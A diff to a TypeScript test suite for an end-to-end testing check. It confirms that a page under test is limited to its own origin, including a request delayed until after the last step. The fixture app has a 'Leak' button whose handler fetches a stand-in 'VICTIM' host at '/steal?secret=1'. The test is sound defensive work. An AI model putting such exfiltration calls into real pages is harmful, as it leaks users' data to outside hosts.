@@ -27,7 +27,7 @@ const [flowsCheck, e2eCheck] = testingChecks({ stepTimeoutMs: 1_500 }) as [Check
 const flowPath = 'tests/e2e/app.flow.json';
 const flows = (tests: unknown[]) => JSON.stringify({ format: 'buildwright.e2e/v1', tests });
 
-/** A small app: a list with two "Remove" buttons, a form, a hash route, localStorage, a throw and a request to another origin. */
+/** A small app: a list with two "Remove" buttons, a form, a hash route, localStorage, a throw and a request to another origin (sent 100 ms after its click, once the test's steps are over). */
 const app = () => ({
   'dist/index.html': '<!doctype html><html><head><title>t</title></head><body><div id="root"></div><script src="/app.js"></script></body></html>',
   'dist/app.js': `
@@ -40,7 +40,7 @@ document.getElementById('name').addEventListener('keydown', (event) => {
 });
 document.querySelectorAll('li button').forEach((button) => button.addEventListener('click', () => button.parentElement.remove()));
 document.getElementById('boom').addEventListener('click', () => setTimeout(() => { throw new Error('boom on click'); }));
-document.getElementById('leak').addEventListener('click', () => fetch(${JSON.stringify('VICTIM')} + '/steal?secret=1').catch(() => {}));
+document.getElementById('leak').addEventListener('click', () => setTimeout(() => fetch(${JSON.stringify('VICTIM')} + '/steal?secret=1').catch(() => {}), 100));
 document.getElementById('stored').textContent = localStorage.getItem('seen') ? 'seen before' : 'first visit';
 localStorage.setItem('seen', '1');
 `,
@@ -97,7 +97,7 @@ describe('testingChecks', () => {
     expect(result.status === 'failed' && result.issues.every((issue) => issue.file === flowPath)).toBe(true);
   }, 120_000);
 
-  it('behavior: the page under test reaches only its own origin (a request elsewhere is blocked and posted as a warning)', async () => {
+  it('behavior: the page under test reaches only its own origin (a request elsewhere, even one sent just after the last step, is blocked and posted as a warning)', async () => {
     const { context, events } = await open([{ name: 'leaks', steps: [{ click: { role: 'button', name: 'Leak' } }, { expect: { text: 'Items' } }] }]);
     const result = await e2eCheck.run(context);
     expect(result).toEqual({ status: 'passed' });
